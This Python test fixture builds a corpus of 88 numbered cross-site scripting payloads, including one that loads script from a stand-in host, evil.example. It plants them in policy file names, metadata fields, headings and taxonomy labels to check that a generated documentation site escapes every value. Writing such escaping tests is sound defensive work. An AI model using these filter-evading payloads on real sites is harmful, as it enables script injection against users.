"""A hostile corpus: payloads that run script if any exit of the site fails to escape them.

Each payload carries its own number (``alert(26)``), so a dialog or a finding names the payload.
``hostile_project`` makes one school per payload and puts the payload in every place a value
can reach a page: the source's file name, every metadata field, a heading, a clause, a cover
line; and the taxonomy's topic and provision labels and descriptions. Two more schools are
refused for metadata that is itself a payload (a slug, a ``javascript:`` address), so that the
schools index's notice of schools left out shows payloads too.
"""

from __future__ import annotations

import json
from pathlib import Path

import yaml

PAYLOADS: tuple[str, ...] = (
    # script elements
    "<script>alert(1)</script>",
    "<SCRIPT>alert(2)</SCRIPT>",
    "<script src=//evil.example/3.js></script>",
    "<scr<script>ipt>alert(4)</script>",
    '"><script>alert(5)</script>',
    "'><script>alert(6)</script>",
    "</script><script>alert(7)</script>",
    "<script/x>alert(8)</script>",
    "<<script>alert(9);//<</script>",
    "<script>alert(String.fromCharCode(49,48))</script>",
    # event handlers
    "<img src=x onerror=alert(11)>",
    "<IMG SRC=x OnError=alert(12)>",
    '<img src="x" onerror="alert(13)"/>',
    "<body onload=alert(14)>",
    "<svg onload=alert(15)>",
    '<div onmouseover="alert(16)">hover</div>',
    "<input autofocus onfocus=alert(17)>",
    "<details open ontoggle=alert(18)>",
    "<video><source onerror=alert(19)></video>",
    "<marquee onstart=alert(20)>",
    '" onmouseover="alert(21)',
    "' onfocus='alert(22)' autofocus x='",
    "<a href=# onclick=alert(23)>x</a>",
    "<select autofocus onfocus=alert(24)>",
    "<iframe onload=alert(25)>",
    # addresses that run script, with case, entity and white-space tricks
    '<a href="javascript:alert(26)">x</a>',
    '<a href="JaVaScRiPt:alert(27)">x</a>',
    '<a href="&#106;avascript:alert(28)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;script:alert(29)">x</a>',
    '<a href="java&#09;script:alert(30)">x</a>',
    '<a href=" javascript:alert(31)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgzMik8L3NjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(33)">x</a>',
    '<a href="jav&#x0A;ascript:alert(34)">x</a>',
    '<form action="javascript:alert(35)"><button>go</button></form>',
    '<button formaction="javascript:alert(36)">go</button>',
    '<object data="javascript:alert(37)"></object>',
    '<embed src="javascript:alert(38)">',
    '<iframe src="javascript:alert(39)"></iframe>',
    '<iframe srcdoc="<script>alert(40)</script>"></iframe>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(41)">',
    '<base href="javascript:alert(42)//">',
    '<img src="data:image/svg+xml,<svg onload=alert(43)>">',
    # SVG and MathML
    "<svg><script>alert(44)</script></svg>",
    '<svg><a xlink:href="javascript:alert(45)"><text x="0" y="20">x</text></a></svg>',
    "<svg><animate onbegin=alert(46) attributeName=x dur=1s>",
    '<svg><set attributeName="onload" to="alert(47)"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(48)>",
    '<math href="javascript:alert(49)">x</math>',
    "<svg><foreignObject><iframe src=javascript:alert(50)></foreignObject></svg>",
    # breaking out of the element a value is printed in
    "</title><script>alert(51)</script>",
    "</textarea><script>alert(52)</script>",
    "</style><script>alert(53)</script>",
    "</noscript><script>alert(54)</script>",
    "</template><script>alert(55)</script>",
    "</xmp><script>alert(56)</script>",
    # malformed CDATA, comments and declarations
    "<![CDATA[<script>alert(57)</script>]]>",
    "<!--<script>alert(58)</script>-->",
    "<!-- --!><script>alert(59)</script>",
    "<!--><script>alert(60)</script>",
    "<? ><script>alert(61)</script>",
    '<!DOCTYPE x [<!ENTITY e "<script>alert(62)</script>">]>',
    # Markdown links, images and autolinks
    "[click](javascript:alert(63))",
    '[click](JAVASCRIPT:alert(64) "title")',
    "![img](javascript:alert(65))",
    '![x](x" onerror="alert(66))',
    "<javascript:alert(67)>",
    '<https://evil.example/"onmouseover="alert(68)>',
    "[a][r69] [r69]: javascript:alert(69)",
    "[x](data:text/html,<script>alert(70)</script>)",
    "[x]( javascript:alert(71) )",
    "`<script>alert(72)</script>`",
    "*<img src=x onerror=alert(73)>*",
    # attribute lists
    '{: onclick="alert(74)"}',
    "{: #x onmouseover=alert(75) }",
    "{#id .class onclick=alert(76)}",
    'text {: style="background:url(javascript:alert(77))"}',
    # the clause-tag grammar itself
    "§ 1.1 {#evil/1.1 lines=1-2 onclick=alert(78)}",
    '§ {#"><script>alert(79)</script> topics=+pupil-contact force=prohibited}',
    "§ 9 {#x/9 topics=<img/src/onerror=alert(80)>}",
    # already escaped, styles, templates
    "&lt;script&gt;alert(81)&lt;/script&gt;",
    '<style>@import "javascript:alert(82)";</style>',
    "<link rel=stylesheet href=javascript:alert(83)>",
    '<div style="width:expression(alert(84))">',
    "{{ 7*7 }} {% raw %}<script>alert(85)</script>",
    "${alert(86)} #{alert(86)}",
    "<img src=x:alert(87) onerror=eval(src)>",
    "<a href='javascript&colon;alert(88)'>x</a>",
)

EPOCH = "1893456000"  # 2030-01-01: every review is overdue, so that notice shows too


def file_stem(number: int, payload: str) -> str:
    """The payload as (part of) a file name: a slash cannot be in one, so it becomes U+2215."""
    return f"{number:02d} {payload.replace('/', '∕')}"


def _sidecar(number: int, payload: str) -> str:
    values = {
        "school": f"School {number:02d} {payload}",
        "title": f"Policy {payload}",
        "approved_by": f"Governors {payload}",
        "group": f"Group {payload}",
        "url": "https://example.org/policy?q=" + "".join(payload.split()),
        "last_reviewed": "2024-09",
        "next_review": "2025-09",
    }
    return "".join(f"{key}: {json.dumps(value)}\n" for key, value in values.items())


def _policy(payload: str) -> str:
    return (
        f"Policy owner: {payload}\n\n"
        f"## Contact {payload}\n\n"
        f"1. Staff must not contact pupils {payload} on personal social media accounts.\n"
        "2. Any breach of this policy will be investigated and may lead to disciplinary action.\n"
        "3. Staff must not post images of pupils on personal accounts.\n"
    )


def hostile_sources() -> dict[str, str]:
    sources: dict[str, str] = {}
    for number, payload in enumerate(PAYLOADS, start=1):
        stem = file_stem(number, payload)
        sources[f"{stem}.txt"] = _policy(payload)
        sources[f"{stem}.yml"] = _sidecar(number, payload)
    refused = "1. Staff must not contact pupils on personal social media accounts.\n"
    sources["refused-slug.txt"] = refused
    sources["refused-slug.yml"] = f"school: Refused\nslug: {json.dumps(PAYLOADS[0])}\n"
    sources["refused-url.txt"] = refused
    sources["refused-url.yml"] = 'school: Refused\nurl: "javascript:alert(1)//<script>alert(1)</script>"\n'
    return sources


def hostile_taxonomy(taxonomy: Path) -> str:
    """The project's taxonomy with a payload in every topic's and provision's label and description."""
    data = yaml.safe_load(taxonomy.read_text(encoding="utf-8"))
    n = 0
    for topic in data["topics"]:
        topic["label"] = f"{topic['label']} {PAYLOADS[n % len(PAYLOADS)]}"
        topic["description"] = f"{topic.get('description', '')} {PAYLOADS[(n + 1) % len(PAYLOADS)]}"
        n += 2
        for provision in topic.get("provisions", []):
            provision["label"] = f"{provision['label']} {PAYLOADS[n % len(PAYLOADS)]}"
            n += 1
    return yaml.safe_dump(data, allow_unicode=True, sort_keys=False)


def placements(taxonomy_text: str) -> int:
    """How many places carry a payload: nine per school, and each label and description of the taxonomy."""
    data = yaml.safe_load(taxonomy_text)
    labels = sum(2 + len(t.get("provisions", [])) for t in data["topics"])
    return 9 * len(PAYLOADS) + labels + 2


def hostile_project(root: Path, make_project: object, normalise: object, taxonomy: Path) -> Path:
    """The hostile corpus as a project in ``root``, normalised (two schools are refused: exit 1)."""
    project: Path = make_project(root, hostile_sources())  # type: ignore[operator]
    config = project / "mkdocs.yml"  # no web fonts: the browser test fails on any request to another host
    text = config.read_text(encoding="utf-8").replace("  language: en\n", "  language: en\n  font: false\n")
    # Every school in the navigation, however many: school and group names are printed there too.
    text = text.replace("      sources_dir: source_policies\n", f"      sources_dir: source_policies\n      nav_schools: {len(PAYLOADS)}\n")
    assert "nav_schools" in text
    config.write_text(text, encoding="utf-8")
    (project / "taxonomy.yml").write_text(hostile_taxonomy(taxonomy), encoding="utf-8")
    assert normalise(project, "--quiet") == 1  # type: ignore[operator]
    assert len(list((project / "docs" / "policies").glob("*.md"))) == len(PAYLOADS)
    return project
